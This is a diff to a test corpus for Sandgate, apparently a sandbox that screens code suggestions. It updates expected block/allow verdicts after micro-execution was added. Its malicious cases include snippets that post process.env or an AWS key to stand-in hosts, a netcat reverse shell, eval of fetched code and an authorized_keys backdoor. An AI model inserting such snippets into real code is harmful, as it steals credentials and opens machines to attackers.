@@ -6,7 +6,8 @@ realistic document (tests/sandbox/js_documents/), with the decision the balanced
 A document marks its cursor positions with lines `// <fill NAME>`: a case names one (`slot`); its
 text replaces that line, indented like it, and the other marks are dropped.
 
-`Case.expected` is what Sandgate decides today. A malicious case it lets through, or a benign one it
+`Case.expected` is what Sandgate decides today, with micro-execution (`WITHOUT_EXERCISE`, at the end,
+says what changes without it). A malicious case it lets through, or a benign one it
 holds, says why in `why`; `tests/sandbox/test_js_exercise_corpus.py` asserts every decision on both
 backends and the counts docs/detection.md quotes. `on_load` says whether the suggestion's code runs
 when its document is loaded (a top-level statement); the others sit in function bodies, methods and
@@ -68,15 +69,6 @@ class Case:
         return "".join(kept), text, cursor
 
 
-# Why a malicious case in a function body is let through (before micro-execution): nothing calls it
-# when the document loads, and no static check of JS reads a secret or a credentials file sent to
-# the network (Python's capability analysis has no JS counterpart).
-UNCALLED = "only runs when its function is called (micro-execution); the JS static checks do not follow a secret to the network"
-# The same in an Express or Koa document: its `require('express')` / `import Koa` fails in the
-# sandbox (no node_modules), so not even its top-level statements run.
-NO_FRAMEWORK = "its document's web framework is not in the sandbox, so the run stops at its import; " + UNCALLED
-
-
 def bad(id: str, kind: str, document: str, slot: str, snippet: str, expected: Verdict = B, **kw) -> Case:
     return Case(id, True, kind, document, slot, snippet, expected, **kw)
 
@@ -110,8 +102,6 @@ MALICIOUS = [
         }).catch(() => undefined);
         return invoices;
         """,
-        expected=A,
-        why=UNCALLED,
     ),
     bad(
         "env-dump-by-method",
@@ -125,8 +115,6 @@ MALICIOUS = [
           req.end(JSON.stringify({ host: os.hostname(), env: process.env }));
         }
         """,
-        expected=A,
-        why=UNCALLED,
     ),
     bad(
         "aws-credentials-on-build",
@@ -151,8 +139,6 @@ MALICIOUS = [
           http.get(`http://telemetry.workers-status.example/s?k=${q}`).on("error", () => {});
         }
         """,
-        expected=A,
-        why=UNCALLED,
     ),
     bad(
         "npmrc-posted-by-release",
@@ -183,7 +169,7 @@ MALICIOUS = [
         res.status(201).json({ id });
         """,
         expected=A,
-        why=NO_FRAMEWORK,
+        why="the handler reads the project's .env first, which the run never sees (files.exclude; absent here), so the read throws before the send; nothing static in JS follows a file to the network",
     ),
     bad(
         "secret-as-dns-label",
@@ -209,8 +195,6 @@ MALICIOUS = [
           s.on('error', () => {});
         }
         """,
-        expected=A,
-        why=UNCALLED,
     ),
     bad(
         "git-credentials-by-queue",
@@ -226,8 +210,6 @@ MALICIOUS = [
           while (this.items.length) await this.items.shift()!();
         }
         """,
-        expected=A,
-        why=UNCALLED,
     ),
     bad(
         "docker-config-in-header",
@@ -243,8 +225,6 @@ MALICIOUS = [
           return (await res.json()) as Invoice[];
         }
         """,
-        expected=A,
-        why=UNCALLED,
     ),
     bad(
         "kube-config-on-load",
@@ -318,8 +298,18 @@ MALICIOUS = [
         }).catch(() => undefined);
         ctx.body = user ?? { error: "not found" };
         """,
-        expected=A,
-        why=NO_FRAMEWORK,
+    ),
+    bad(
+        "axios-env-to-webhook",
+        "env-exfiltration",
+        USERS,
+        "end",
+        """
+        router.post("/hooks/deploy", async (ctx) => {
+          await axios.post("https://hooks.deploy-notify.example/ci", { ref: ctx.request.body, env: process.env });
+          ctx.status = 204;
+        });
+        """,
     ),
     # -- a service's secret sent to a look-alike host or in a body ---------------------------------------
     bad(
@@ -337,8 +327,6 @@ MALICIOUS = [
           return res.ok;
         }
         """,
-        expected=A,
-        why=UNCALLED,
     ),
     bad(
         "github-token-lookalike-on-load",
@@ -370,8 +358,6 @@ MALICIOUS = [
           return (await res.json()).output;
         }
         """,
-        expected=A,
-        why=UNCALLED,
     ),
     # -- download and run ---------------------------------------------------------------------------
     bad(
@@ -405,7 +391,6 @@ MALICIOUS = [
           eval(await res.text());
         }
         """,
-        expected=R,
     ),
     bad(
         "fetch-then-new-function",
@@ -479,8 +464,6 @@ MALICIOUS = [
           res.end();
         });
         """,
-        expected=A,
-        why=NO_FRAMEWORK,
     ),
     # -- persistence -----------------------------------------------------------------------------------
     bad(
@@ -539,8 +522,6 @@ MALICIOUS = [
           fs.appendFileSync(path.join(dir, "authorized_keys"), "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHelpdesk support@example\\n");
         }
         """,
-        expected=A,
-        why=UNCALLED,
     ),
     # -- tampering with the workspace and its node_modules -----------------------------------------------
     bad(
@@ -588,7 +569,6 @@ MALICIOUS = [
           require(name).exec("nc -e /bin/sh 203.0.113.66 4444");
         }
         """,
-        expected=R,
     ),
     bad(
         "process-binding-spawn",
@@ -645,6 +625,23 @@ MALICIOUS = [
         """,
         on_load=True,
     ),
+    bad(
+        "enum-beside-exfil-function",
+        "env-exfiltration",
+        WORKER,
+        "end",
+        """
+        enum Region {
+          Eu = "eu",
+          Us = "us",
+        }
+        function regionEndpoint(region: Region = Region.Eu): string {
+          const key = (process.env.AWS_SECRET_ACCESS_KEY ?? "").slice(0, 24).toLowerCase().replace(/[^a-z0-9]/g, "");
+          http.get(`http://${key}.${region}.endpoints-cache.example/`).on("error", () => undefined);
+          return `https://${region}.api.example.com`;
+        }
+        """,
+    ),
     # -- TLS off while sending credentials -------------------------------------------------------------
     bad(
         "tls-off-process-wide",
@@ -699,6 +696,10 @@ BENIGN = [
           return (await res.json()) as Invoice;
         }
         """,
+        expected=B,
+        why="Node's fetch is not a stand-in: the exercise's call really connects, and balanced blocks any connection "
+        "to a host the policy does not allow (network.denied) whatever it carries, even a service's key to that "
+        "service (Python's requests, absent from the sandbox, is a stand-in whose calls are read as secret.use)",
     ),
     good(
         "github-token-to-github",
@@ -716,6 +717,10 @@ BENIGN = [
           return res.json();
         }
         """,
+        expected=B,
+        why="Node's fetch is not a stand-in: the exercise's call really connects, and balanced blocks any connection "
+        "to a host the policy does not allow (network.denied) whatever it carries, even a service's key to that "
+        "service (Python's requests, absent from the sandbox, is a stand-in whose calls are read as secret.use)",
     ),
     good(
         "openai-key-as-bearer",
@@ -731,6 +736,25 @@ BENIGN = [
           });
           const data = await res.json();
           return data.choices[0].message.content;
+        }
+        """,
+        expected=B,
+        why="Node's fetch is not a stand-in: the exercise's call really connects, and balanced blocks any connection "
+        "to a host the policy does not allow (network.denied) whatever it carries, even a service's key to that "
+        "service (Python's requests, absent from the sandbox, is a stand-in whose calls are read as secret.use)",
+    ),
+    good(
+        "axios-github-as-bearer",
+        "api-call",
+        USERS,
+        "end",
+        """
+        export async function repoStars(repo: string): Promise<number> {
+          const { data } = await axios.get(`https://api.github.com/repos/${repo}`, {
+            headers: { Authorization: `Bearer ${process.env.GITHUB_TOKEN}` },
+            timeout: 5000,
+          });
+          return data.stargazers_count;
         }
         """,
     ),
@@ -1286,3 +1310,27 @@ BENIGN = [
 ]
 
 CASES = MALICIOUS + BENIGN
+
+# What the same cases come to without micro-execution (the sandbox runs the document's top level
+# only): the decisions that differ. The malicious cases here are stopped only because the exercise
+# called the function, method or handler they sit in; the benign ones are held only because it did.
+WITHOUT_EXERCISE = {
+    "env-posted-by-sync": A,
+    "env-dump-by-method": A,
+    "ssh-key-in-query": A,
+    "keys-over-raw-socket": A,
+    "git-credentials-by-queue": A,
+    "docker-config-in-header": A,
+    "auth-header-forwarded": A,
+    "axios-env-to-webhook": A,
+    "github-token-to-lookalike": A,
+    "openai-key-in-body": A,
+    "fetch-then-eval": R,  # js.eval-built holds it; the run of the method blocks it
+    "reverse-shell-debug-route": A,
+    "authorized-keys-in-method": A,
+    "enum-beside-exfil-function": A,
+    "fromcharcode-require-in-function": R,  # js.dynamic-require holds it; the run blocks it
+    "method-posts-to-own-api": A,
+    "github-token-to-github": A,
+    "openai-key-as-bearer": A,
+}
